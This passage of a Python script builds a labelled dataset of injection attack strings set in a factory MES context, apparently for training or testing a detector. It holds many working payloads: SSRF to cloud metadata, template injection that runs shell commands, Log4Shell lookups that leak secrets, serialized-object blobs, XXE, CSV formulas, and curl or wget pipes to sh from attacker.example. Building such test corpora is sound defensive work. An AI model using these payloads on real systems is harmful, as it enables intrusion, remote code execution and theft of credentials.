    ("supplier-cloud-metadata-alibaba", "http://100.100.100.200/latest/meta-data/"),
    ("drawing-unc-ntlm-leak", r"\\198.51.100.23\drawings\4471-203_C.pdf"),
    ("gcode-jar-scheme", "jar:http://attacker.example/x.zip!/O4471C.nc"),
    ("bom-loopback+hex-octet", "http://0x7f.0.0.1/"),
    ("ncr-loopback+ipv4-mapped-ipv6-long", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("inspection-loopback-server-status", "http://localhost/server-status"),
    ("spc-loopback-grafana", "http://127.0.0.1:3000/api/admin/users"),
    ("handover-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cqe%40plant.example%3E%0D%0ARCPT%20TO%3A%3Cboss%40plant.example%3E%0D%0ADATA%0D%0ASubject%3A%20approved%0D%0A.%0D%0A"),
    ("workorder-fragment-confusion", "http://127.0.0.1#@supplierportal.example.com/"),
    ("supplier-backslash-confusion", "http://supplierportal.example.com\\@127.0.0.1:8080/"),
    ("drawing-nested-import-param", "https://plm.example.com/import?url=http://169.254.169.254/latest/meta-data/iam/"),
    ("bom-attacker-dns-to-loopback", "http://127-0-0-1.attacker.example:8080/admin"),
    ("plctag-opcua-loopback", "opc.tcp://127.0.0.1:4840/"),
    ("ncr-netdoc-scheme", "netdoc:///etc/passwd"),
    ("inspection-cloud-metadata+url2", "http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"),
    ("spc-cloud-metadata-ecs", "http://169.254.170.2/v2/credentials/"),
    ("handover-ipv6-unspecified", "http://[::]:80/"),
    ("workorder-loopback-minio", "http://127.0.0.1:9000/minio/admin/v3/info"),
    ("ncr-pdf-render-iframe", "8D report attachment: <iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=800 height=600></iframe>"),
    ("gcode-loopback+octal-dword", "http://017700000001:8080/"),
    ("supplier-pdf-render-link-import", "<link rel=attachment href=\"file:///etc/mes/db.conf\">"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-cloud-metadata", "http://169.254.169.254/"),
    ("plain-loopback-ssh", "http://localhost:22"),
    ("plain-file-scheme-windows", "file:///c:/windows/win.ini"),
    ("plain-ipv6-loopback-long", "http://[0:0:0:0:0:0:0:1]/"),
]

# ---------------------------------------------------------------------------
# Code injection: SSTI, expression languages, deserialization, XXE,
# Log4Shell-style lookups, prototype pollution, CSV formulas, eval.
# ---------------------------------------------------------------------------
JAVA_URL_HASHMAP_B64 = (
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
    "c3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAE"
    "ZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAE2htLmF0dGFja2VyLmV4YW1wbGV0"
    "AAEvcQB+AAV0AARodHRwcHh0AAF4eA=="
)

CODE = [
    ("ncr-ssti-jinja2", "Root cause: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("spc-ssti-jinja2-config", "Cpk {{ config.items() }}"),
    ("workorder-ssti-jinja2-attr+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f') }}"),
    ("handover-ssti-twig-filter", "{{['id']|filter('system')}}"),
    ("supplier-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("bom-ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("inspection-ssti-erb", "12.03 <%= `cat /etc/passwd` %>"),
    ("partno-spel", "${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("plctag-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("drawing-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("gcode-ssti-mako", "(OP30) <% import os %>${os.popen('id').read()}"),
    ("handover-ssti-smarty", "Shift OK {system('id')}"),
    ("plctag-log4shell-ldap", "Alarm 1042 ${jndi:ldap://attacker.example:1389/a}"),
    ("handover-log4shell+nested-lookup", "${${lower:j}ndi:${lower:r}mi://203.0.113.15/x}"),
    ("supplier-log4shell-env-exfil", "${jndi:dns://${env:DB_PASSWORD}.x.attacker.example}"),
    ("ncr-log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.40/o}"),
    ("gcode-log4shell-in-comment", "(OP30 ${jndi:ldaps://attacker.example/c})"),
    ("bom-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fb%7D"),
    ("workorder-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.attacker.example/a}"),
    ("supplier-java-deserialization-base64", JAVA_URL_HASHMAP_B64),
    ("bom-php-object-injection", "O:7:\"Logfile\":2:{s:4:\"path\";s:27:\"/var/www/html/uploads/x.php\";s:4:\"data\";s:23:\"<?php system($_GET[0]);\";}"),
    ("ncr-python-pickle-base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3AgfCBzaCcKdFIu"),
    ("spc-python-pickle", "cos\nsystem\n(S'id > /tmp/spc'\ntR."),
    ("workorder-yaml-python-object", "!!python/object/apply:os.system [\"curl -s http://attacker.example/y | sh\"]"),
    ("drawing-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("supplier-dotnet-json-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\temp\\\\o.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("bom-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("plctag-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.15:1099/o\",\"autoCommit\":true}"),
    ("ncr-phar-deserialization", "phar:///var/www/uploads/ncr_photo_5521.jpg/x"),
    ("gcode-node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("supplier-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE scar [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<scar><id>0045</id><note>&x;</note></scar>"),
    ("bom-xxe-parameter-entity-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE bom [<!ENTITY % d SYSTEM \"http://attacker.example/bom.dtd\"> %d;]>\n<bom pn=\"4471-000\" rev=\"C\"/>"),
    ("inspection-xxe-metadata", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><result char=\"1\">&m;</result>"),
    ("drawing-xxe-svg", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>"),
    ("plctag-xinclude", "<tag xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></tag>"),
    ("ncr-xxe-entity-expansion", "<!DOCTYPE n [<!ENTITY a \"NCRNCRNCRNCR\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><n>&e;</n>"),
    ("plctag-prototype-pollution", "{\"tag\":\"L2_ST04\",\"__proto__\":{\"isAdmin\":true}}"),
    ("workorder-prototype-pollution-constructor", "{\"wo\":\"118955\",\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("bom-prototype-pollution-querystring", "filter[__proto__][execArgv][]=--eval=require('child_process').execSync('id')"),
    ("spc-prototype-pollution-template-gadget", "{\"__proto__\":{\"outputFunctionName\":\"_x;process.mainModule.require('child_process').execSync('curl attacker.example/e|sh');_y\"}}"),
    ("bom-csv-formula-dde", "=cmd|'/c powershell -nop iwr attacker.example/x'!B1"),
    ("supplier-csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/c?d=\"&A2&B2,\"Open 8D\")"),
    ("ncr-csv-formula-at", "@SUM(1+1)*cmd|'/c calc'!A1"),
    ("inspection-csv-formula-plus", "+12.03+cmd|'/c notepad'!Z9"),
    ("handover-csv-formula-minus", "-2+3+cmd|' /C explorer https://attacker.example'!A1"),
    ("workorder-csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&ENCODEURL(C4))"),
    ("spc-csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/s?v=\",A1:A50),\"//a\")"),
    ("inspection-el-session", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("ncr-el-deferred", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("supplier-ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("plctag-ssti-jinja2+unicode-escape", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f']['\\u005f\\u005fmro\\u005f\\u005f'][1]['\\u005f\\u005fsubclasses\\u005f\\u005f']() }}"),
    ("drawing-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("workorder-ssti-pebble", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("handover-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("bom-ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("supplier-python-format-string", "{user.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("spc-js-eval", "12.01;require('child_process').exec('curl attacker.example/n|sh')"),
    ("inspection-python-eval", "__import__('os').system('id')"),
    ("partno-ssti-jinja2-getattr", "4471-203 {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
    ("gcode-ruby-erb-system", "<%= system('curl http://attacker.example/r | sh') %>"),
    ("partno-xxe-xlsx-import", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE x [<!ENTITY p SYSTEM \"file:///etc/mes/db.conf\">]><sst><si><t>&p;</t></si></sst>"),
    ("handover-spel-concat", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id > /tmp/h'})}"),
    ("drawing-ognl-struts-header", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Probe',@java.lang.System@getenv('HOME'))}"),
    ("workorder-php-eval", "118955\"; system('id'); //"),
    ("spc-log4shell+case", "${JnDi:LdAp://attacker.example/spc}"),
    ("plctag-log4shell-multilingual", "Störung 3011: Kühlmittelpumpe ${jndi:ldap://attacker.example/st}"),
    ("plain-ssti-probe-jinja", "{{7*'7'}}"),
    ("plain-el-probe", "${7*7}"),
    ("plain-erb-probe", "<%= 7*7 %>"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/p}"),
    ("plain-ssti-jinja2-config", "{{config}}"),
    ("plain-csv-formula", "=1+1+cmd|'/c calc'!A0"),
    ("plain-prototype-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
]

# ---------------------------------------------------------------------------
# NoSQL injection: value parsed into a MongoDB-style query (JSON body or
# bracketed query string) or concatenated into a $where expression.
# ---------------------------------------------------------------------------
NOSQLI = [
    ("partno-operator-ne", "{\"pn\": {\"$ne\": null}}"),
    ("workorder-operator-gt", "{\"wo\": {\"$gt\": \"\"}}"),
    ("supplier-operator-regex", "{\"supplier\": {\"$regex\": \"^Prec\"}, \"api_key\": {\"$regex\": \"^a\"}}"),
    ("ncr-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("handover-where-string-breakout", "'; return true; var x='"),
    ("bom-operator-in-ne", "{\"badge\": {\"$in\": [\"1001\", \"admin\"]}, \"pin\": {\"$ne\": \"0000\"}}"),
    ("plctag-operator-ne-querystring", "tag[$ne]=x"),
    ("inspection-operator-regex-querystring", "result[$regex]=.*&char[$ne]=1"),
    ("spc-operator-expr", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("drawing-aggregation-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("gcode-where-function", "{\"$where\": \"function(){ return this.machine == 'LB3000' || true }\"}"),
    ("handover-operator-or", "{\"$or\": [{\"shift\": \"night\"}, {\"_id\": {\"$exists\": true}}]}"),
    ("supplier-operator-ne+url", "password%5B%24ne%5D=1"),
    ("partno-operator-regex-blind", "{\"pn\":\"4471-203\",\"token\":{\"$regex\":\"^7f\"}}"),
    ("ncr-operator-nin", "{\"status\": {\"$nin\": []}}"),
    ("workorder-where-exfil-timing", "{\"$where\": \"this.password.match(/^a.*/) && sleep(3000)\"}"),
    ("bom-operator-function", "{\"$expr\":{\"$function\":{\"body\":\"function(){return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("plctag-operator-ne+unicode-escape", "{\"tag\": {\"\\u0024ne\": \"\"}}"),
    ("inspection-operator-gte", "{\"badge\": \"1001\", \"pin\": {\"$gte\": \"\"}}"),
    ("drawing-where-boolean-breakout", "4471-203' || '1'=='1"),
    ("gcode-operator-elemmatch", "{\"programs\": {\"$elemMatch\": {\"owner\": {\"$ne\": \"\"}}}}"),
    ("ncr-update-operator-set", "{\"$set\": {\"role\": \"admin\"}}"),
    ("plain-operator-ne", "{\"$ne\": 1}"),
    ("plain-operator-gt-querystring", "login[$gt]=&pw[$gt]="),
    ("plain-operator-ne-login", "{\"username\": {\"$ne\": \"\"}, \"password\": {\"$ne\": \"\"}}"),
]

# ---------------------------------------------------------------------------
# CRLF / log / header / mail injection.
# ---------------------------------------------------------------------------
CRLF = [
    ("handover-log-forging", "Shift OK\n2024-06-12 06:00:01 INFO user=admin action=APPROVE_DEVIATION DEV-0099 result=SUCCESS"),
    ("ncr-log-forging-crlf", "NCR-5521\r\n[2024-06-12T02:14:07Z] AUDIT qe.manager signed off NCR-5521 (use as is)"),
    ("supplier-mail-header-bcc", "qe@supplier.example\nBcc: dump@attacker.example"),
    ("supplier-mail-subject-injection", "SCAR-0045 reminder\r\nCc: leak@attacker.example\r\n\r\nPlease reset your portal password here: https://attacker.example/reset"),
    ("drawing-header-set-cookie", "4471-203_C.pdf\r\nSet-Cookie: mes_session=attacker-fixed-0001; Path=/"),
    ("workorder-response-splitting", "118955\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("partno-header-location+url", "4471-203%0d%0aLocation:%20https://attacker.example/"),
    ("plctag-log-forging+url", "ALM_1042%0a2024-06-12 02:15:00 INFO ALM_1042 cleared by maintenance"),
    ("inspection-header-injection+url2", "12.03%250d%250aX-Injected:%2520yes"),
    ("spc-log-forging+url-line-separator", "Op30%E2%80%A8[AUDIT] control limits approved by QE"),
    ("gcode-log-ansi-escape", "O4471C.nc\x1b[2J\x1b[1;1HProgram approved by: QE Manager"),
    ("supplier-smtp-command-injection", "Hi\r\n.\r\nMAIL FROM:<ceo@plant.example>\r\nRCPT TO:<finance@plant.example>\r\nDATA\r\nSubject: urgent wire\r\n\r\nPay invoice INV-99 now.\r\n.\r\n"),
    ("handover-header-x-forwarded-for", "night shift\r\nX-Forwarded-For: 127.0.0.1"),
    ("ncr-mail-header-bcc+url", "jdoe@plant.example%0aBcc:all-suppliers@attacker.example"),
    ("workorder-log-forging-json", "118955\",\"level\":\"INFO\",\"user\":\"admin\",\"msg\":\"WO approved"),
    ("drawing-header-content-type-body", "4471-203_C.pdf\r\nContent-Type: text/html\r\n\r\n<html><body>Session expired, <a href=//attacker.example>log in</a></body></html>"),
    ("plctag-syslog-forging", "L2_ST04\n<34>Jun 12 02:14:07 mes01 sshd[812]: Accepted password for root from 198.51.100.77 port 51022"),
    ("inspection-header-refresh-lf", "OK\nRefresh: 0; url=https://attacker.example/"),
    ("partno-header-injection-cr", "4471-203\rX-Cache-Poison: 1"),
    ("spc-header-set-cookie+unicode-truncation", "Op30%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("handover-log-forging-multiline", "ok\n\nWARN auth: 5 failed logins for user 'shiftlead2' from 10.0.5.99\nINFO auth: password reset for 'shiftlead2' by admin"),
    ("supplier-mime-part-injection", "Supplier reply\r\nContent-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example\">view 8D</a>\r\n--zz--"),
    ("bom-header-link", "4471-000\r\nLink: <https://attacker.example/evil.css>; rel=stylesheet"),
    ("gcode-header-set-cookie+url-nel", "O4471C%C2%85Set-Cookie:%20x=1"),
    ("drawing-header-location+url", "/plm/4471-203%0D%0ALocation:%20//attacker.example"),
    ("inspection-mail-header-injection", "Result 12.03 NG\nTo: customer-quality@customer.example\nSubject: Re: PPAP approved"),
    ("plctag-header-cors", "ALM_1042\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("workorder-log-forging+url", "WO-24-118733%0d%0a2024-06-12 07:00:00 INFO WO-24-118733 released by planner"),
    ("handover-log-forging-multilingual", "Schicht OK, keine Besonderheiten\n2024-06-12 06:00:00 INFO Freigabe DEV-0102 durch QS-Leitung erteilt"),
    ("plain-header-set-cookie+url", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-header-injection", "\r\nX-Test: injected"),
    ("plain-header-injection-lf+url", "foo%0aInjected-Header: 1"),
]

# ---------------------------------------------------------------------------
# LDAP filter injection and XPath injection.
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("supplier-ldap-or-injection", "qe.manager)(|(objectClass=*)"),
    ("ncr-ldap-auth-bypass", "admin)(&)"),
    ("workorder-ldap-attribute-probe", "jdoe)(userPassword=a*"),
    ("plctag-ldap-filter-null-byte", "svc_plc)(|(cn=*))%00"),
    ("inspection-ldap-blind-wildcard", "*)(description=*pass*"),
    ("spc-ldap-wildcard+url", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("handover-ldap-group-membership", "shiftlead2)(memberOf=cn=Domain Admins,cn=Users,dc=plant,dc=example"),
    ("drawing-ldap-ou-enumeration", "*)(ou=Engineering)(|(cn=*"),
    ("supplier-xpath-or", "Precision Castings' or '1'='1"),
    ("partno-xpath-count", "4471-203' or count(/*)=1 or 'a'='b"),
    ("ncr-xpath-substring-blind", "x' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
    ("workorder-xpath-union", "118955'] | //operator/pin | /x['"),
    ("inspection-xpath-name-enum", "' or name(/*[1])='mes' or '"),
    ("gcode-xpath-string-length", "O4471' and string-length(//program[1]/owner)>5 and 'a'='a"),
    ("bom-xpath-doc-oob", "x' or doc('http://attacker.example/x')//a or '"),
    ("plctag-xpath-comment", "L2_ST04' or 1=1 (: alarm :) or 'x'='y"),
    ("handover-xpath-dquote", "Night\" or \"1\"=\"1"),
    ("spc-xpath-numeric", "1 or 1=1"),
    ("partno-ldap-cn-wildcard", "4471*)(cn=*"),
    ("bom-xpath-position", "') or position()=2 or ('"),
    ("handover-ldap-or-injection-unicode", "müller)(|(uid=*)"),
    ("plain-xpath-or", "' or ''='"),
    ("plain-ldap-wildcard", "*)(&(objectClass=*)"),
]

# ---------------------------------------------------------------------------
# Small templates over hand-written pools (a minority of the corpus).
# ---------------------------------------------------------------------------
T_PREFIX = [("partno", "4471-205"), ("ncr", "NCR-5533"), ("workorder", "WO-24-119001"),
            ("bom", "2-018-V75"), ("supplier", "L-88220"), ("plctag", "ALM_2204"),
            ("gcode", "O5520"), ("inspection", "25.012"), ("spc", "Op60"), ("handover", "Line 4")]
T_WORDS = ["a", "x", "mes", "ok", "qc", "z9"]
T_TABLES = [("login", "pwhash", "mes_users"), ("badge", "pin", "operators"), ("name", "api_key", "integrations"),
            ("tag_name", "plc_password", "plc_config")]


def t_sqli(r):
    ctx, pre = r.choice(T_PREFIX)
    k = r.randint(0, 4)
    n = r.randint(4, 12)
    if k == 0:
        w = r.choice(T_WORDS)
        return ctx, "boolean", f"{pre}' OR '{w}'='{w}"
    if k == 1:
        return ctx, "time-blind", f"{pre}' AND SLEEP({n})-- -"
    if k == 2:
        return ctx, "stacked-pg", f"{pre}'; SELECT pg_sleep({n});--"
    if k == 3:
        c1, c2, t = r.choice(T_TABLES)
        return ctx, "union", f"{pre}' UNION SELECT {c1},{c2} FROM {t}-- "
    return ctx, "stacked-mssql", f"{pre}'; WAITFOR DELAY '0:0:{n}';--"


T_XSS_JS = ["alert(document.domain)", "fetch('//attacker.example/k?'+document.cookie)",
            "location='//attacker.example/p'", "navigator.sendBeacon('//attacker.example/b',document.cookie)"]
T_XSS_TEXT = [("inspection", "Ø12.00 +0.02/-0.00 measured 12.03 -> NG "), ("ncr", "NCR-5533 burr on cross hole "),
              ("handover", "Line 4 OK, "), ("supplier", "Dear supplier, "), ("bom", "0040 | 9000-112 | Seal kit "),
              ("plctag", "ALM_2204 spindle vibration ")]


def t_xss(r):
    ctx, pre = r.choice(T_XSS_TEXT)
    js = r.choice(T_XSS_JS)
    k = r.randint(0, 3)
    if k == 0:
        return ctx, "img-onerror", f"{pre}<img src=x onerror=\"{js}\">"
    if k == 1:
        return ctx, "svg-onload", f"{pre}<svg onload=\"{js}\">"
    if k == 2:
        return ctx, "script-tag", f"{pre}<script>{js}</script>"
    return ctx, "attr-breakout", f"{pre}\" autofocus onfocus=\"{js}\" x=\""


T_CMDI_PRE = [("drawing", "4471-207_A.pdf"), ("gcode", "O5520_OP10.nc"), ("spc", "SPC_Op60.csv"),
              ("plctag", "10.0.5.31"), ("handover", "label_4471-205.zpl"), ("bom", "9000-112")]
T_CMDI_CMD = ["id", "uname -a", "curl -s http://attacker.example/{n}|sh", "wget -qO- http://203.0.113.{n}/s|sh",
              "sleep {n}", "cat /etc/passwd"]


def t_cmdi(r):
    ctx, pre = r.choice(T_CMDI_PRE)
    cmd = r.choice(T_CMDI_CMD).format(n=r.randint(2, 60))
    k = r.randint(0, 4)
    if k == 0:
        return ctx, "semicolon", f"{pre};{cmd}"
    if k == 1:
        return ctx, "pipe", f"{pre}|{cmd}"
    if k == 2:
        return ctx, "and", f"{pre} && {cmd}"
    if k == 3:
        return ctx, "cmdsub", f"{pre}$({cmd})"
    return ctx, "backtick", f"{pre}`{cmd}`"


T_TRAV_PRE = [("drawing", "drawings/4471-207/"), ("gcode", "programs/O5520/"), ("inspection", "cmm/2024/"),
              ("supplier", "scar/0051/"), ("bom", "bom/9000-112/")]
T_TRAV_TARGET = ["etc/passwd", "etc/shadow", "etc/mes/db.conf", "root/.ssh/id_rsa", "proc/self/environ",
                 "var/lib/mes/secrets.json"]


def t_traversal(r):
    ctx, pre = r.choice(T_TRAV_PRE)
    depth = r.randint(3, 8)
    target = r.choice(T_TRAV_TARGET)
    if r.random() < 0.5:
        return ctx, "dotdot", pre + "../" * depth + target
    return ctx, "dotdot-windows", pre.replace("/", "\\") + "..\\" * depth + target.replace("/", "\\")


T_SSRF_HOST = [("loopback", "127.0.0.1"), ("loopback", "localhost"), ("cloud-metadata", "169.254.169.254"),
               ("ipv6-loopback", "[::1]"), ("zero-ip", "0.0.0.0")]
T_SSRF_PORT_PATH = [(22, "/"), (6379, "/info"), (8080, "/manage/env"), (9200, "/_cluster/health"),
                    (2375, "/images/json"), (5984, "/_all_dbs"), (11211, "/"), (80, "/latest/meta-data/")]
T_SSRF_CTX = ["supplier", "drawing", "plctag", "workorder", "ncr"]


def t_ssrf(r):
    tech, host = r.choice(T_SSRF_HOST)
    port, path = r.choice(T_SSRF_PORT_PATH)
    ctx = r.choice(T_SSRF_CTX)
    return ctx, tech, f"http://{host}:{port}{path}"


T_JNDI_PROTO = ["ldap", "rmi", "dns", "ldaps", "iiop"]
T_JNDI_HOST = ["attacker.example", "203.0.113.15", "198.51.100.40", "cb.attacker.example:1389"]
T_JNDI_CTX = [("plctag", "Alarm 2204 "), ("handover", "Night shift OK "), ("supplier", "8D D4: "),
              ("gcode", "(OP10) "), ("ncr", "NCR-5533 ")]
T_JINJA_CMD = ["id", "uname -a", "cat /etc/mes/db.conf", "env"]


def t_code(r):
    if r.random() < 0.6:
        ctx, pre = r.choice(T_JNDI_CTX)
        return ctx, "log4shell", f"{pre}${{jndi:{r.choice(T_JNDI_PROTO)}://{r.choice(T_JNDI_HOST)}/{r.choice(T_WORDS)}{r.randint(1, 99)}}}"
    ctx, pre = r.choice(T_JNDI_CTX)
    return ctx, "ssti-jinja2", f"{pre}{{{{ cycler.__init__.__globals__.os.popen('{r.choice(T_JINJA_CMD)}').read() }}}}"


T_NOSQL_FIELDS = [("partno", "pn"), ("workorder", "wo"), ("supplier", "supplier_id"), ("handover", "shift"),
                  ("plctag", "tag")]
T_NOSQL_OPS = [("operator-ne", "$ne", "\"\""), ("operator-gt", "$gt", "\"\""), ("operator-regex", "$regex", "\".*\""),
               ("operator-exists", "$exists", "true")]


def t_nosqli(r):
    ctx, field = r.choice(T_NOSQL_FIELDS)
    tech, op, arg = r.choice(T_NOSQL_OPS)
    return ctx, tech, f"{{\"{field}\": {{\"{op}\": {arg}}}, \"pin\": {{\"$ne\": null}}}}"


T_CRLF_CTX = [("ncr", "NCR-5533"), ("handover", "Line 4 OK"), ("plctag", "ALM_2204"), ("workorder", "WO 119001")]
T_CRLF_FORGED = ["INFO user=admin action=CLOSE_NCR", "AUDIT qe.manager approved deviation DEV-0101",
                 "INFO login success user=root src=10.0.5.2"]


def t_crlf(r):
    ctx, pre = r.choice(T_CRLF_CTX)
    sep = r.choice(["\n", "\r\n"])
    ts = f"2024-06-{r.randint(10, 28):02d} {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:00"
    return ctx, "log-forging", f"{pre}{sep}{ts} {r.choice(T_CRLF_FORGED)}"


T_LDAP_USERS = ["setter1", "mtanaka", "agarcia", "svc_mes"]


def t_ldap_xpath(r):
    u = r.choice(T_LDAP_USERS)
    if r.random() < 0.5:
        return "handover", "ldap-or-injection", f"{u})(|(uid=*)"
    return "supplier", "xpath-or", f"{u}' or 'a'='a"


CATEGORIES = [
    # name, literals, template, number of templated values
    ("sqli", SQLI, t_sqli, 4),
    ("xss", XSS, t_xss, 4),
    ("cmdi", CMDI, t_cmdi, 5),
    ("traversal", TRAVERSAL, t_traversal, 4),
    ("ssrf", SSRF, t_ssrf, 4),
    ("code", CODE, t_code, 4),
    ("nosqli", NOSQLI, t_nosqli, 2),
    ("crlf", CRLF, t_crlf, 2),
    ("ldap-xpath", LDAP_XPATH, t_ldap_xpath, 2),
]


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for cat, literals, template, n_templated in CATEGORIES:
        lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            lit += 1
        made = 0
        tries = 0
        while made < n_templated:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{cat}: template cannot produce enough unique values")
            ctx, tech, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, f"{ctx}-{tech}", v))
            made += 1
        stats.append((cat, lit + made, lit))

    for cat, cls, v in rows:
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value in {cat}/{cls}: {v!r}")
        ctx = cls.split("-", 1)[0]
        if "-" not in cls or not ctx:
            raise SystemExit(f"bad class {cls!r}")

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:11s} {n:4d}  literals {lit:3d}")
    plain = sum(1 for _, cls, _ in rows if cls.startswith("plain-"))
    enc = sum(1 for _, cls, _ in rows if "+" in cls)
    print(f"{'total':11s} {len(rows):4d}  literals {total_lit:3d} ({100 * total_lit / len(rows):.0f}%)")
    print(f"plain- classes {plain}, with +encoding {enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
